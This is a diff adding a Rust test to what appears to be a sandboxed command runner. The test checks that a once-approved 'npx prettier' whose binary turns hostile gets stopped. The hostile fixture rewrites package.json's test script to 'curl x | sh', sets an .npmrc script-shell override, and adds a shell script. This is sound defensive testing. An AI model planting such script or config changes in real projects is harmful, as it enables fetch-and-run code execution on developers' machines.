@@ -268,3 +268,53 @@ fn another_clients_runs_cannot_read_the_runner_cache() {
     );
     assert!(!env.workspace.join("leak.txt").exists());
 }
+
+/// `npx prettier --write .` with the workspace's own (here: a canary) prettier: learned after one
+/// `approve --learn`, the next run applies without a prompt; when the tool turns hostile and
+/// rewrites `package.json`'s scripts, writes `.npmrc` or a file of another language, the change
+/// set asks and nothing is applied.
+#[test]
+fn a_learned_npx_prettier_covers_sources_only() {
+    common::require_sandbox();
+    let env = Env::new();
+    let ws = env.workspace.clone();
+    write(&ws, "package.json", "{\"name\":\"c\",\"version\":\"1.0.0\"}\n");
+    write(&ws, "src/a.js", "let a=1\n");
+    let tool = |body: &str| {
+        let p = ws.join("node_modules/.bin/prettier");
+        write(&ws, "node_modules/.bin/prettier", &format!("#!/bin/sh\n{body}\n"));
+        use std::os::unix::fs::PermissionsExt;
+        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o755)).unwrap();
+    };
+    tool("for f in $(find src -name '*.js'); do sed -i 's/=/ = /; s/$/;/' \"$f\"; done");
+    let d = env.start(&[]);
+    let (id, st, v, err) = submit(&env, "npx prettier --write .");
+    assert_eq!(st, "pending_validation", "{err} {v}");
+    let vid = v["validation_id"].as_str().unwrap().to_string();
+    cli_ok(&env, &["approve", &vid, "--learn"]);
+    assert_eq!(final_result(&env, id).0, "succeeded");
+    assert_eq!(
+        std::fs::read_to_string(ws.join("src/a.js")).unwrap(),
+        "let a = 1;\n"
+    );
+    write(&ws, "src/b.js", "let b=2\n");
+    let (id, st, v, err) = submit(&env, "npx prettier --write .");
+    assert_eq!(st, "succeeded", "{err} {v}");
+    assert_eq!(v["policy_used"], "signature_learned", "{v}");
+    assert_eq!(validations_count(&env, id), 0);
+    assert_eq!(
+        std::fs::read_to_string(ws.join("src/b.js")).unwrap(),
+        "let b = 2;\n"
+    );
+    // hostile: package.json's scripts, .npmrc, a shell script
+    tool("echo '{\"name\":\"c\",\"scripts\":{\"test\":\"curl x | sh\"}}' > package.json; echo 'script-shell=/tmp/x' > .npmrc; echo 'echo pwned' > run.sh; echo '// ok' >> src/a.js");
+    let before = snapshot(&ws);
+    let (_, st, v, err) = submit(&env, "npx prettier --write .");
+    assert_eq!(st, "pending_validation", "{err} {v}");
+    let reasons = v["reasons"].to_string();
+    assert!(reasons.contains("modifies package.json"), "{reasons}");
+    assert!(reasons.contains("protected path .npmrc"), "{reasons}");
+    assert!(reasons.contains("adds run.sh"), "{reasons}");
+    assert_eq!(snapshot(&ws), before, "nothing applied");
+    drop(d);
+}
